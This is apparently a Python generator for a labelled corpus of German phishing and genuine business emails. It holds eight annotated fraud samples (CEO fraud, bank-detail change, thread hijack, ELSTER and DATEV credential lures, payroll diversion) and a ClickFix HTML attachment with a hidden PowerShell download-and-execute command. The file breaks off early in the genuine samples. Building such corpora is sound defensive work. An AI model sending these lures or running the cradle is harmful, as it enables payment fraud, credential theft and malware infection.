"""German messages: attacks 01-08, business 01-08."""
from banking import grp
from company import S, ACC, TAX, PRIVATE
from compose import att_pdf, att_text, att_qrpng
from infra import filetime
from util import local_to_utc

SIG_LIEF = ('Lieferant GmbH · Am Lindener Hafen 21 · 30453 Hannover\n'
            'Geschäftsführer: Dr. Wolfgang Lieb · Amtsgericht Hannover HRB 20714 · USt-IdNr. ' + TAX['lieferant'])

SIG_EG = ('Example Group GmbH\nKonsul-Smidt-Straße 12 · 28217 Bremen\n'
          'Amtsgericht Bremen HRB 31877 HB · USt-IdNr. ' + TAX['eg_de'] + '\n'
          'Geschäftsführer: Matthias Köhler, Sabine Weiß')

# thread "Ventilbeutel" (Felix -> Stefan -> Felix, later hijacked)
FELIX_VB_ID = '<3b9e2f41c7d84a0e9f5b6c1d2e7a8f90@EXCH02.example.local>'
_ft = filetime(local_to_utc('2026-10-23 11:18', 'de'))
STEFAN_VB_ID = '<000a%08x$%08x$6c41d2a9$@lieferant-gmbh.de>' % (_ft >> 32, _ft & 0xffffffff)

FELIX_VB_TEXT = """Hallo Herr Maier,

anbei unsere Bestellung 4500018342 über 240.000 Ventilbeutel 250 g (Aufteilung siehe Bestellung). Bitte bestätigen Sie uns den Liefertermin KW 44, wir haben die Röstung für das Weihnachtsgeschäft entsprechend eingeplant.

Viele Grüße
Felix Hartmann
Einkauf | Example Group GmbH
T +49 421 69 4410-230"""

STEFAN_VB_TEXT = """Hallo Herr Hartmann,

danke für die Bestellung. Anbei die Auftragsbestätigung AB-2026-20871 zu Ihrer Bestellung 4500018342:

- 180.000 Stück Ventilbeutel 250 g, Blockbodenbeutel Kraft/Alu/PE, 4-farbig "Bremer Röstung Classic"
- 60.000 Stück Ventilbeutel 250 g "Espresso Hanse"

Liefertermin: KW 44, Anlieferung am 29.10.2026 an Rampe 3 (avisiert über Herrn Jansen).

Die Preise entsprechen dem Rahmenvertrag 2026, Zahlungsziel wie gewohnt 30 Tage netto. Eine Anzahlung ist nicht erforderlich.

Viele Grüße
Stefan Maier"""

STEFAN_SIG = """Stefan Maier
Key Account Management
Lieferant GmbH · Am Lindener Hafen 21 · 30453 Hannover
Tel. +49 511 4783-152 · Mobil +49 160 9184 3372
s.maier@lieferant-gmbh.de · www.lieferant-gmbh.de"""


def _quote(text):
    return '\n'.join('> ' + l if l else '>' for l in text.split('\n'))


LIEF_HOST = dict(host='mail.lieferant-gmbh.de', ip='195.201.87.143', rdns='mail.lieferant-gmbh.de')


def attacks():
    L = []
    # ------------------------------------------------------------ 01
    L.append(dict(
        n=1, lang='de', slug='ceo-fraud-vertrauliche-uebernahme',
        tech='CEO fraud (BEC) from look-alike domain, reply-to diversion',
        what='"CEO" asks the CFO to prepare a confidential same-day escrow payment of EUR 187,400 for a secret acquisition; a lawyer will follow up.',
        why='Look-alike domain example-group.eu (real: example.com / examplegroup.eu) on a Contabo VPS, authenticated from a Nigerian mobile IP; Reply-To to a third domain; secrecy, urgency, bypassing the payment run and the four-eyes release, "do not call". Classic CEO fraud opener.',
        frm=('Matthias Köhler', 'matthias.koehler@example-group.eu'),
        reply_to=('Matthias Köhler', 'm.koehler@ceo-examplegroup.com'),
        to=[S('weiss')], subject='Vertraulich – kurze Abstimmung heute',
        date='2026-10-08 07:52:18', tz='de',
        infra=('hosted_postfix', dict(host='mail.example-group.eu', ip='194.163.141.87', rdns='vmi2284417.contaboserver.net',
                                      client_helo='[192.168.0.104]', client_ip='102.89.47.212',
                                      auth='matthias.koehler@example-group.eu', zone='utc', client='iphone')),
        charset='utf-8', cte='quoted-printable', hcs='utf-8', henc='Q',
        text="""Guten Morgen Sabine,

bist Du heute Vormittag am Platz? Ich brauche Dich kurz für eine vertrauliche Sache.

Wie Du weißt, sind wir seit dem Sommer mit einem Automatenbetreiber in Österreich im Gespräch. Der Beirat hat gestern Abend zugestimmt, der LOI soll am Montag unterschrieben werden. Bis zur offiziellen Mitteilung bleibt das bitte strikt zwischen uns beiden – auch im Controlling und in der Buchhaltung darf niemand etwas mitbekommen, die Gegenseite hat Kontakte zu uns ins Haus.

Die Transaktion begleitet Dr. Hendrik Voss von Voss Legal in Frankfurt. Er meldet sich heute noch bei Dir mit den Unterlagen zur Exklusivitätsvereinbarung. Darin ist eine Sicherheitsleistung von 187.400,00 EUR auf ein Treuhandkonto vorgesehen, die heute noch valutieren muss, sonst ist die Exklusivität weg.

Bitte leg die Zahlung als Einzelüberweisung an und nicht über den Zahllauf, damit sie nicht in der Freigabeliste auftaucht. Ich sitze den ganzen Tag in Verhandlungen und kann nicht telefonieren – bitte nur per Mail.

Gib mir kurz Bescheid, wenn Du von ihm gehört hast.

Danke Dir
Matthias

Von meinem iPhone gesendet""",
    ))
    # ------------------------------------------------------------ 02
    letter = att_pdf('Lieferant_GmbH_Mitteilung_Bankverbindung.pdf', [
        ('Lieferant GmbH', 16, True), 'Am Lindener Hafen 21 · 30453 Hannover', '',
        'Example Group GmbH', 'Kreditorenbuchhaltung', 'Konsul-Smidt-Straße 12', '28217 Bremen', '',
        ('Hannover, 13.10.2026', 10, False, 420), '',
        ('Mitteilung über die Änderung unserer Bankverbindung', 12, True), '',
        'Sehr geehrte Damen und Herren,', '',
        'im Zuge der Zusammenführung unseres Zahlungsverkehrs wird unser Konto bei der Sparkasse Hannover',
        'zum 31.10.2026 geschlossen. Ab sofort bitten wir um Zahlung ausschließlich auf folgendes Konto:', '',
        'Kontoinhaber: Lieferant GmbH', 'Kreditinstitut: Revolut Bank UAB',
        'IBAN: ' + grp(ACC['mule_lt']), 'BIC: REVOLT21', '',
        'Zahlungen auf die bisherige Bankverbindung werden nach dem 31.10.2026 zurückgebucht.', '',
        'Mit freundlichen Grüßen', '', 'Dr. Wolfgang Lieb', 'Geschäftsführer', '', '',
        ('Lieferant GmbH · Amtsgericht Hannover HRB 20714 · USt-IdNr. ' + TAX['lieferant'], 8, False)],
        title='Mitteilung Bankverbindung', author='p.lang', producer='Microsoft® Word für Microsoft 365',
        creator='Microsoft® Word für Microsoft 365', date='2026-10-14 09:58', tz='de')
    L.append(dict(
        n=2, lang='de', slug='lieferant-bankwechsel-lookalike',
        tech='Supplier bank-detail change from typosquatted domain (BEC), Microsoft 365 tenant',
        what='"Petra Lang" of Lieferant GmbH announces a new bank account (Revolut, Lithuania) and asks accounts payable to pay three real open invoices there.',
        why='Sender domain lieferant-gmhb.de is a typosquat of lieferant-gmbh.de (signature still shows the real address); sent from a fresh Microsoft 365 tenant; account moved to a foreign neobank; old account "will bounce"; phone "hardly reachable"; confirmation requested by e-mail only. Compare genuine business/02.',
        frm=('Petra Lang', 'p.lang@lieferant-gmhb.de'), to=[S('krueger')],
        subject='Offene Posten Lieferant GmbH / geänderte Bankverbindung', date='2026-10-14 10:21:40', tz='de',
        infra=('exo', dict(server='AS8PR02MB9127', region='eurprd02', out=2, org='lieferantgmhb.onmicrosoft.com')),
        charset='windows-1252', cte='quoted-printable', html='outlook', hcs='windows-1252', henc='Q',
        attachments=[letter],
        text="""Sehr geehrte Frau Krüger,

im Zuge der Zusammenführung unseres Zahlungsverkehrs haben wir unsere Hausbank gewechselt. Die bisherige Verbindung bei der Sparkasse Hannover wird zum 31.10.2026 geschlossen; Zahlungen, die danach dort eingehen, werden automatisch zurückgebucht.

Bitte überweisen Sie die offenen Posten

- RE-2026-10388 vom 05.10.2026 – 18.944,80 EUR
- RE-2026-10412 vom 09.10.2026 – 12.306,48 EUR
- RE-2026-10455 vom 13.10.2026 – 17.465,64 EUR

(gesamt 48.716,92 EUR) ab sofort ausschließlich auf unsere neue Bankverbindung:

Kontoinhaber: Lieferant GmbH
Bank: Revolut Bank UAB
IBAN: %s
BIC: REVOLT21

Das offizielle Schreiben unserer Geschäftsführung finden Sie im Anhang. Bitte passen Sie den Kreditorenstamm an und bestätigen Sie uns die Änderung kurz per Antwort auf diese E-Mail, damit wir die Zahlungen korrekt zuordnen können.

Wegen der Umstellung unserer Telefonanlage sind wir diese Woche telefonisch leider nur eingeschränkt erreichbar – für Rückfragen nutzen Sie bitte diese E-Mail-Adresse.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung

Lieferant GmbH
Am Lindener Hafen 21 · 30453 Hannover
Tel. +49 511 4783-214
p.lang@lieferant-gmbh.de · www.lieferant-gmbh.de""" % grp(ACC['mule_lt']),
    ))
    # ------------------------------------------------------------ 03
    L.append(dict(
        n=3, lang='de', slug='thread-hijack-lieferant-sharepoint',
        tech='Thread hijack from a genuinely compromised supplier mailbox, link to foreign SharePoint tenant (AiTM credential phishing)',
        what='Reply in the real "Ventilbeutel" order thread from the real mailbox of Stefan Maier, sending an "updated order confirmation and pro-forma for a down payment" via a SharePoint link that asks for a Microsoft 365 login.',
        why='Genuine domain, but submitted with Stefan\'s stolen credentials from a hosting IP (45.87.214.99) with a Linux Thunderbird instead of his usual Outlook; the link points to an unrelated tenant (netorgft17342981-my.sharepoint.com) used as AiTM lure; asks for a down payment although the quoted genuine confirmation says none is needed.',
        frm=('Stefan Maier', 's.maier@lieferant-gmbh.de'), to=[S('hartmann')],
        subject='AW: Bestellung 4500018342 – Ventilbeutel 250 g, Liefertermin KW 44',
        date='2026-10-27 16:42:09', tz='de',
        in_reply_to=STEFAN_VB_ID, references=[FELIX_VB_ID, STEFAN_VB_ID],
        infra=('hosted_postfix', dict(LIEF_HOST, client_helo='[10.8.0.6]', client_ip='45.87.214.99',
                                      auth='s.maier@lieferant-gmbh.de', client='thunderbird',
                                      client_kw={'ua': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.4.2'})),
        charset='utf-8', cte='8bit', flowed=True, hcs='utf-8', henc='Q', cs_label='UTF-8', quote_cs=False,
        text="""Hallo Herr Hartmann,

wie besprochen anbei die aktualisierte Auftragsbestätigung mit den geänderten Mengen für KW 44/45 sowie die Proforma-Rechnung für die Anzahlung der Sonderanfertigung (Ventilbeutel 1 kg mit neuem Aromaschutzventil).

Da die Dateien für den Mailversand zu groß sind, habe ich sie Ihnen über unseren SharePoint freigegeben:

https://netorgft17342981-my.sharepoint.com/:b:/g/personal/s_maier_netorgft17342981_onmicrosoft_com/EWq3Lx0mT1ZHn8yVbK2pR4sBdJ9xQ7cT?e=Kf83Qp

Bitte melden Sie sich mit Ihrem Microsoft-365-Konto an, damit die Freigabe greift. Die Anzahlung bräuchten wir bis Donnerstag, sonst verschiebt sich der Produktionsslot.

Viele Grüße
Stefan Maier

-- 
""" + STEFAN_SIG + """

Am 23.10.2026 um 11:18 schrieb Stefan Maier:
""" + _quote(STEFAN_VB_TEXT),
    ))
    # ------------------------------------------------------------ 04
    track = 'https://u48123456.ct.sendgrid.net/ls/click?upn=u001.Xk2JwP8qLr-2BvT0aZcY7nHfE4sQ1dGm6uVbN3oKx9iW5yRtC8eA-2FhJ0lM'
    L.append(dict(
        n=4, lang='de', slug='elster-zertifikat-phishing-sendgrid',
        tech='Tax-office (ELSTER) credential and certificate theft via hijacked SendGrid account',
        what='"ELSTER" warns that the organisation certificate expires on 15 Nov and asks to renew it online with the existing .pfx file and its password.',
        why='Sent from elster-zertifikatsservice.de (not elster.de) through a SendGrid account; the button goes through SendGrid click tracking to the look-alike; asks to upload the certificate file plus password (full takeover of the company tax account); threat of late-filing penalties.',
        frm=('ELSTER - Ihr Online-Finanzamt', 'noreply@elster-zertifikatsservice.de'), to=[S('lorenz')],
        subject='Ihr ELSTER-Organisationszertifikat läuft am 15.11.2026 ab – Verlängerung erforderlich',
        date='2026-11-03 09:05:12', tz='de',
        infra=('sendgrid', dict(ip='149.72.154.231')),
        charset='utf-8', cte='quoted-printable', html='brand', hcs='utf-8', henc='B', plain_link='colon',
        brand=dict(brand='ELSTER – Ihr Online-Finanzamt', color='#00386c', title='ELSTER',
                   footer='Dies ist eine automatisch erzeugte Nachricht. Bitte antworten Sie nicht auf diese E-Mail.\nBayerisches Landesamt für Steuern · Dienststelle München · Ein Service der Steuerverwaltungen der Länder und des Bundes',
                   pixel='https://u48123456.ct.sendgrid.net/wf/open?upn=u001.Qm5oP2xT7-2FrV'),
        text="""Sehr geehrte Nutzerin, sehr geehrter Nutzer,

das Organisationszertifikat zu Ihrem ELSTER-Benutzerkonto

Benutzerkonto-ID: 1089441327
Organisation: Example Group GmbH
Steuernummer: 60/xxx/x0817

läuft am 15.11.2026 ab. Nach Ablauf können Sie keine Umsatzsteuer-Voranmeldungen, Lohnsteuer-Anmeldungen und Zusammenfassenden Meldungen mehr übermitteln. Für verspätet abgegebene Anmeldungen kann das Finanzamt Verspätungszuschläge nach § 152 AO festsetzen.

Die Verlängerung dauert etwa fünf Minuten. Halten Sie dafür Ihre bisherige Zertifikatsdatei (.pfx) und das zugehörige Passwort bereit.

[[Zertifikat jetzt verlängern|%s]]

Nach der Verlängerung erhalten Sie Ihre neue Zertifikatsdatei als Download. Ihre gespeicherten Formulare und Bescheide bleiben erhalten.

Mit freundlichen Grüßen
Ihr ELSTER-Team""" % track,
    ))
    # ------------------------------------------------------------ 05
    form = att_pdf('DFGV_Eintragungsantrag_2026-448190.pdf', [
        ('DFGV', 22, True), ('Deutsches Firmen- und Gewerbeverzeichnis', 11, True),
        ('Datenpflege · Postfach 10 14 22 · 10554 Berlin', 8, False), '',
        ('Eintragungsantrag / Aktualisierung', 14, True), ('Vorgang: DFGV-2026-448190', 10, True), '',
        'Firma: Example Group GmbH', 'Anschrift: Konsul-Smidt-Straße 12, 28217 Bremen',
        'Register: Amtsgericht Bremen HRB 31877 HB', 'Branche: Kaffeerösterei / Automatenaufstellung',
        'Telefon: +49 421 69 4410-0', '',
        ('Aktualisierungsentgelt: 1.189,00 EUR', 12, True), 'Zahlbar innerhalb von 10 Tagen auf:',
        'Empfänger: DFGV Verzeichnisdienste s.r.o.', 'IBAN: ' + grp(ACC['mule_sk']) + '   BIC: GIBASKBX',
        'Verwendungszweck: DFGV-2026-448190', '', '',
        ('Wichtige Hinweise: Das DFGV ist ein privates Branchenverzeichnis und steht in keiner Verbindung zu', 7, False),
        ('amtlichen Registern (Handelsregister, Gewerberegister). Mit Unterzeichnung oder Zahlung kommt ein', 7, False),
        ('Vertrag über die Veröffentlichung des Eintrags für die Dauer von drei Jahren zu einem Jahrespreis von', 7, False),
        ('1.189,00 EUR zzgl. gesetzlicher USt. zustande. Der Vertrag verlängert sich um jeweils ein Jahr, wenn er', 7, False),
        ('nicht drei Monate vor Ablauf gekündigt wird. Gerichtsstand ist Bratislava.', 7, False), '', '',
        'Datum, Unterschrift, Firmenstempel: ______________________________'],
        title='Eintragungsantrag', author='', producer='TCPDF 6.7.5 (http://www.tcpdf.org)', creator='TCPDF',
        date='2026-10-20 11:30', tz='de')
    L.append(dict(
        n=5, lang='de', slug='fake-verzeichnis-rechnung-dfgv',
        tech='Fake directory/register invoice (offer disguised as mandatory update fee) sent through a hacked WordPress site',
        what='"Deutsches Firmen- und Gewerbeverzeichnis" asks to pay an "update fee" of EUR 1,189 for the company record; the PDF fine print creates a three-year subscription.',
        why='Private listing disguised as official register update; payment "instead of returning the form" binds a 3-year contract; Slovak account; sent by PHPMailer from a compromised WordPress site (tischlerei-brunsmann.de) on a cPanel host. Compare the genuine association invoice business/05.',
        frm=('DFGV Eintragungsservice', 'eintragung@dfgv-register.de'), env_from='wordpress@tischlerei-brunsmann.de',
        reply_to=('DFGV Eintragungsservice', 'datenpflege@dfgv-register.de'),
        to=[S('krueger')], subject='Aktualisierung Ihres Firmeneintrags – Vorgang DFGV-2026-448190',
        date='2026-10-20 11:37:55', tz='de',
        infra=('exim_cpanel', dict(host='s47.webhostserver24.de', ip='178.254.10.147', rdns='s47.webhostserver24.de',
                                   cpuser='tischle1', php=True, zone='de')),
        charset='utf-8', cte='base64', html='simple', hcs='utf-8', henc='B', msgid_domain='tischlerei-brunsmann.de',
        attachments=[form],
        text="""Sehr geehrte Damen und Herren,

im Rahmen der jährlichen Aktualisierung des Deutschen Firmen- und Gewerbeverzeichnisses bitten wir Sie, die bei uns hinterlegten Daten Ihres Unternehmens zu prüfen:

Firma: Example Group GmbH
Anschrift: Konsul-Smidt-Straße 12, 28217 Bremen
Registergericht: Amtsgericht Bremen, HRB 31877 HB
Branche: Kaffeerösterei / Automatenaufstellung

Den vorbereiteten Eintragungsantrag (Vorgang DFGV-2026-448190) finden Sie im Anhang. Sind die Daten korrekt, genügt die Überweisung des Aktualisierungsentgelts von 1.189,00 EUR unter Angabe des Vorgangs; einer Rücksendung des Formulars bedarf es dann nicht. Korrekturen senden Sie bitte unterschrieben per E-Mail zurück.

Bitte beachten Sie die Frist von 10 Tagen ab Zugang dieses Schreibens.

Mit freundlichen Grüßen
DFGV Eintragungsservice
Abteilung Datenpflege""",
    ))
    # ------------------------------------------------------------ 06
    L.append(dict(
        n=6, lang='de', slug='gehaltsumleitung-privatadresse',
        tech='Payroll diversion (employee impersonation from a new free-mail address)',
        what='"Sven Jansen" writes to HR from a web.de address asking to pay his November salary to a new N26 account.',
        why='Free-mail address not known for the employee (his real private address is sven.jansen@gmx.de, see business/06), request bypasses the HR self-service process, new neobank account, excuse for not using the company account, asks for quick confirmation.',
        frm=('Sven Jansen', 'sven.jansen.bremen@web.de'), to=[S('schaefer')],
        subject='Neue Bankverbindung für die Gehaltsabrechnung', date='2026-11-16 19:48:31', tz='de',
        infra=('gmx', dict(client_ip='80.187.118.42', webde=True)),
        charset='utf-8', cte='quoted-printable', hcs='UTF-8', henc='Q', cs_label='UTF-8',
        text="""Hallo Anja,

ich habe mein Girokonto gewechselt, das alte Konto bei der Sparkasse läuft Ende des Monats aus. Kannst du bitte für die November-Abrechnung schon die neue Bankverbindung hinterlegen?

Kontoinhaber: Sven Jansen
Bank: N26
IBAN: %s
BIC: NTSBDEB1XXX

Ich schreibe dir von privat, weil ich gerade unterwegs bin und mein Diensthandy nicht dabei habe. Eine kurze Bestätigung wäre super, dann weiß ich, dass es klappt.

Danke und viele Grüße
Sven""" % grp(ACC['mule_n26']),
    ))
    # ------------------------------------------------------------ 07
    qurl = 'https://datev-smartlogin-registrierung.de/r/7KQ2M4XD?m=birgit.lorenz%40example.com'
    L.append(dict(
        n=7, lang='de', slug='datev-smartlogin-quishing',
        tech='Quishing: QR code in a PNG attachment, DATEV brand, sent from a compromised Strato mailbox',
        what='"DATEV" says the SmartLogin access must be re-registered by 30 Nov or uploads to the tax adviser stop; the user is told to scan the QR code in the attached image with a phone.',
        why='QR code (decodes to datev-smartlogin-registrierung.de, not datev.de) moves the victim to an unmanaged phone; sent from the hijacked mailbox of an unrelated physiotherapy practice via Strato with display name "DATEV eG"; deadline and lock-out threat. Compare the genuine IT notice business/07.',
        frm=('DATEV eG Sicherheitsservice', 'praxis@physio-am-wall.de'), to=[S('lorenz')],
        subject='DATEV SmartLogin: Neuregistrierung Ihres Zugangs bis 30.11.2026 erforderlich',
        date='2026-11-24 08:13:47', tz='de',
        infra=('strato', dict(client_ip='193.32.249.140', client='outlook16')),
        charset='iso-8859-15', cte='quoted-printable', html='brand', hcs='iso-8859-15', henc='Q',
        brand=dict(brand='DATEV', color='#00843d', title='DATEV SmartLogin',
                   footer='DATEV eG · Paumgartnerstr. 6-14 · 90429 Nürnberg\nDiese E-Mail wurde automatisch erstellt.'),
        attachments=[att_qrpng('DATEV_SmartLogin_Registrierung.png', qurl)],
        text="""Sehr geehrte DATEV-Nutzerin, sehr geehrter DATEV-Nutzer,

ab dem 01.12.2026 ist die Anmeldung an DATEV Unternehmen online und DATEV Arbeitnehmer online nur noch mit einem neu registrierten SmartLogin möglich. Zugänge, die bis zum 30.11.2026 nicht neu registriert wurden, werden aus Sicherheitsgründen gesperrt; Belegübermittlungen an Ihre Steuerberatungskanzlei sind dann nicht mehr möglich.

Die Neuregistrierung dauert weniger als zwei Minuten:

1. Öffnen Sie das beigefügte Registrierungsbild.
2. Scannen Sie den QR-Code mit der Kamera Ihres Smartphones.
3. Bestätigen Sie Ihre Zugangsdaten und Ihre Mobilnummer.

Ihre Registrierungskennung: DUO-7KQ2-M4XD

Mit freundlichen Grüßen
DATEV eG
Kundenservice Sicherheit""",
    ))
    # ------------------------------------------------------------ 08
    clickfix = """<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>Ausschreibung_Kaffeeversorgung_SNG-2027.docx - Word</title>
<style>
body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}
.bar{background:#185abd;color:#fff;padding:10px 18px;font-size:14px}
.doc{width:720px;margin:24px auto;background:#fff;padding:48px;filter:blur(4px);color:#333;line-height:1.6}
.modal{position:fixed;top:18%;left:50%;margin-left:-260px;width:520px;background:#fff;border:1px solid #c8c6c4;
box-shadow:0 6px 24px rgba(0,0,0,.25);padding:26px 30px;font-size:14px;color:#201f1e}
.modal h2{font-size:18px;margin:0 0 12px 0;color:#a4262c}
pre{background:#f3f2f1;border:1px solid #c8c6c4;padding:10px;white-space:pre-wrap;word-break:break-all;font-size:12px}
</style>
</head>
<body>
<div class="bar">Word &nbsp;|&nbsp; Ausschreibung_Kaffeeversorgung_SNG-2027.docx &nbsp;-&nbsp; Schreibgeschützt</div>
<div class="doc">
<h1>Leistungsverzeichnis Kaffee- und Snackversorgung 2027&ndash;2030</h1>
<p>Seehotels Nordsee Gruppe GmbH &amp; Co. KG &ndash; Zentraleinkauf</p>
<p>Los 1: Kaffeevollautomaten Frühstücks- und Tagungsbereiche (38 Geräte)<br>Los 2: Heißgetränke- und Snackautomaten Mitarbeiterbereiche (14 Geräte)</p>
<p>Standorte: Norddeich, Norderney, Cuxhaven, Büsum, St. Peter-Ording, Husum</p>
</div>
<div class="modal">
<h2>Dokument kann nicht angezeigt werden</h2>
<p>Beim Laden der Vorschau ist ein Fehler aufgetreten: Die Schriftart &bdquo;Aptos Display&ldquo; ist auf diesem Gerät nicht installiert (Fehlercode 0x80070643).</p>
<p><b>So beheben Sie das Problem:</b></p>
<ol>
<li>Markieren Sie den folgenden Befehl vollständig und kopieren Sie ihn (Strg&nbsp;+&nbsp;C).</li>
<li>Drücken Sie die Windows-Taste&nbsp;+&nbsp;R.</li>
<li>Fügen Sie den Befehl ein (Strg&nbsp;+&nbsp;V) und drücken Sie die Eingabetaste.</li>
</ol>
<pre>powershell -w hidden -nop -c "$u='https://ms-office-fontcache.com/update/aptos';iex(irm $u)"</pre>
<p>Anschließend wird das Dokument automatisch neu geladen.</p>
<p style="font-size:11px;color:#605e5c">Microsoft Office Online &middot; Dokumentvorschau</p>
</div>
</body>
</html>
"""
    L.append(dict(
        n=8, lang='de', slug='clickfix-ausschreibung-html',
        tech='ClickFix: HTML attachment with fake Word error telling the user to paste a PowerShell command into Win+R',
        what='A hotel group invites sales to tender for coffee machines; the attached "tender document" HTML shows a fake Word preview error with instructions to run a command.',
        why='Newly registered sender domain on an OVH VPS; the HTML attachment (no script) instructs the user to run "powershell ... iex(irm https://ms-office-fontcache.com/...)" via Win+R - the ClickFix technique that makes the victim execute the download cradle; a real tender portal never asks this.',
        frm=('Katharina Engel', 'k.engel@seehotels-nordsee.de'), to=[S('vogt')],
        subject='Ausschreibung Kaffee- und Snackversorgung 2027–2030 – Aufforderung zur Angebotsabgabe',
        date='2026-11-10 14:26:03', tz='de',
        infra=('hosted_postfix', dict(host='mail.seehotels-nordsee.de', ip='51.195.44.118', rdns='vps-6f2a91c3.vps.ovh.net',
                                      client_helo='DESKTOP-7HQ2K1M', client_ip='188.215.229.61',
                                      auth='k.engel@seehotels-nordsee.de', zone='utc', client='outlook16')),
        charset='utf-8', cte='quoted-printable', html='outlook', hcs='utf-8', henc='Q',
        attachments=[att_text('Ausschreibung_Kaffeeversorgung_SNG-2027.html', 'text/html', clickfix)],
        text="""Sehr geehrte Frau Vogt,

die Seehotels Nordsee Gruppe schreibt die Kaffee- und Snackversorgung ihrer sechs Häuser (Norddeich, Norderney, Cuxhaven, Büsum, St. Peter-Ording, Husum) für den Zeitraum 01.03.2027 bis 28.02.2030 neu aus. Der Leistungsumfang umfasst 38 Kaffeevollautomaten im Frühstücks- und Tagungsbereich sowie 14 Heißgetränke- und Snackautomaten in den Mitarbeiterbereichen, jeweils inklusive Befüllung, Wartung und Abrechnung.

Ihr Unternehmen wurde uns von einem Partnerhaus in Bremen empfohlen. Das Leistungsverzeichnis mit Mengengerüst und Standortliste finden Sie im Anhang (Export aus unserem Vergabeportal, bitte im Browser öffnen).

Angebotsfrist ist der 27.11.2026, 12:00 Uhr. Für Rückfragen stehe ich Ihnen gern zur Verfügung.

Mit freundlichen Grüßen

Katharina Engel
Zentraleinkauf
Seehotels Nordsee Gruppe GmbH & Co. KG
Strandstraße 40 · 26548 Norderney
Tel. +49 4932 8930-210""",
    ))
    return L


def _xrechnung():
    return """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
 xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
 xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
 <rsm:ExchangedDocumentContext>
  <ram:BusinessProcessSpecifiedDocumentContextParameter><ram:ID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</ram:ID></ram:BusinessProcessSpecifiedDocumentContextParameter>
  <ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>
 </rsm:ExchangedDocumentContext>
 <rsm:ExchangedDocument>
  <ram:ID>RE-2026-10388</ram:ID><ram:TypeCode>380</ram:TypeCode>
  <ram:IssueDateTime><udt:DateTimeString format="102">20261005</udt:DateTimeString></ram:IssueDateTime>
 </rsm:ExchangedDocument>
 <rsm:SupplyChainTradeTransaction>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:AssociatedDocumentLineDocument><ram:LineID>1</ram:LineID></ram:AssociatedDocumentLineDocument>
   <ram:SpecifiedTradeProduct><ram:Name>Becher 7 oz Kraft, bedruckt "Example Coffee", Karton à 2.000 Stk.</ram:Name></ram:SpecifiedTradeProduct>
   <ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>79.60</ram:ChargeAmount></ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
   <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="CT">200</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
   <ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:TypeCode>VAT</ram:TypeCode><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
   <ram:SpecifiedTradeSettlementLineMonetarySummation><ram:LineTotalAmount>15920.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>
  </ram:IncludedSupplyChainTradeLineItem>
  <ram:ApplicableHeaderTradeAgreement>
   <ram:BuyerReference>4500018125</ram:BuyerReference>
   <ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name>
    <ram:PostalTradeAddress><ram:PostcodeCode>30453</ram:PostcodeCode><ram:LineOne>Am Lindener Hafen 21</ram:LineOne><ram:CityName>Hannover</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
    <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
   <ram:BuyerTradeParty><ram:Name>Example Group GmbH</ram:Name>
    <ram:PostalTradeAddress><ram:PostcodeCode>28217</ram:PostcodeCode><ram:LineOne>Konsul-Smidt-Straße 12</ram:LineOne><ram:CityName>Bremen</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
    <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:BuyerTradeParty>
  </ram:ApplicableHeaderTradeAgreement>
  <ram:ApplicableHeaderTradeSettlement>
   <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
   <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode>
    <ram:PayeePartyCreditorFinancialAccount><ram:IBANID>%s</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
   <ram:ApplicableTradeTax><ram:CalculatedAmount>3024.80</ram:CalculatedAmount><ram:TypeCode>VAT</ram:TypeCode><ram:BasisAmount>15920.00</ram:BasisAmount><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
   <ram:SpecifiedTradePaymentTerms><ram:Description>#SKONTO#TAGE=14#PROZENT=2.00#
Zahlbar innerhalb 30 Tagen netto</ram:Description></ram:SpecifiedTradePaymentTerms>
   <ram:SpecifiedTradeSettlementHeaderMonetarySummation>
    <ram:LineTotalAmount>15920.00</ram:LineTotalAmount><ram:TaxBasisTotalAmount>15920.00</ram:TaxBasisTotalAmount>
    <ram:TaxTotalAmount currencyID="EUR">3024.80</ram:TaxTotalAmount><ram:GrandTotalAmount>18944.80</ram:GrandTotalAmount>
    <ram:DuePayableAmount>18944.80</ram:DuePayableAmount>
   </ram:SpecifiedTradeSettlementHeaderMonetarySummation>
  </ram:ApplicableHeaderTradeSettlement>
 </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>
""" % (TAX['lieferant'], TAX['eg_de'], ACC['lieferant_old'])


def business():
    L = []
    # ------------------------------------------------------------ 01
    inv = att_pdf('RE-2026-10388.pdf', [
